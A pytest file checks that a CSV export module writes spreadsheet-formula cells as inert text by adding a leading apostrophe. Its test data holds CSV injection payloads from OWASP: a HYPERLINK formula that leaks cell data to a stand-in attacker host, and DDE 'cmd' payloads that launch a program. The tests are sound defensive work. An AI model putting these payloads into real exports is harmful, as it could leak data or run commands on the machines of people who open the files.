"""CSV a spreadsheet opens safely: a cell that Excel or LibreOffice would read as a formula is
written with a leading apostrophe (OWASP's advice on CSV injection), whoever wrote the text."""

import csv
import dataclasses
import io

import pytest

from pipeline.csvout import csv_text, safe_cell
from tests.kit.cli import run_cli
from tests.kit.published import build_published, sample_listings, sample_records

# Real payloads from OWASP's CSV injection page and the reports that followed it.
PAYLOADS = [
    '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_is_written_as_text(payload):
    assert safe_cell(payload) == "'" + payload
    [[cell]] = list(csv.reader(io.StringIO(csv_text(["cell"], [[payload]]))))[1:]
    assert cell == "'" + payload


@pytest.mark.parametrize("value", ["Huawei Technologies", "", "O'Brien", "1,5", "Zürich = home", "'quoted"])
def test_plain_text_is_left_alone(value):
    assert safe_cell(value) == value


def test_our_numbers_stay_numbers_but_text_that_looks_like_one_does_not():
    """Numbers the program computed (row numbers, scores) are written as numbers; any text, even
    "-5" from a firm's file, could be a formula's start and gets the apostrophe."""
    assert csv_text(["row", "score", "id"], [[3, -0.5, "-5"], [4, 0.93, None], [5, True, "V1"]]) == (
        "row,score,id\r\n3,-0.5,'-5\r\n4,0.93,\r\n5,true,V1\r\n"
    )


def test_screen_csv_neutralises_payloads_from_the_file_and_from_the_lists(tmp_path):
    db_path = tmp_path / "chokepoint.db"
    listings = sample_listings()
    # A poisoned source: a listed name that is a formula (as a tampered download could carry).
    poisoned = dataclasses.replace(listings[0], entry_id="poisoned", name="=cmd|' /C calc'!A0", alt_names=[])
    build_published(db_path, sample_records(listings + [poisoned]))
    vendors = tmp_path / "vendors.csv"
    with open(vendors, "w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["name", "country", "id"])
        writer.writerow(["=cmd|' /C calc'!A0", "", "@V1"])
        writer.writerow([PAYLOADS[0], "+CN", "-5"])
    result = run_cli(
        "screen", str(vendors), "--db", str(db_path), "--private-db", str(tmp_path / "p.db"), "--format", "csv"
    )
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    listed = [row for row in rows if row["listing_id"] == poisoned.id]
    assert listed and listed[0]["name"] == "'=cmd|' /C calc'!A0" and listed[0]["query"] == "'=cmd|' /C calc'!A0"
    assert {row["id"] for row in rows} == {"'@V1", "'-5"}
    assert "'" + PAYLOADS[0] in {row["query"] for row in rows}
    assert "'+CN" in {row["country"] for row in rows}
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), row
            assert not value.startswith("-") or value.lstrip("-").replace(".", "").isdigit(), row
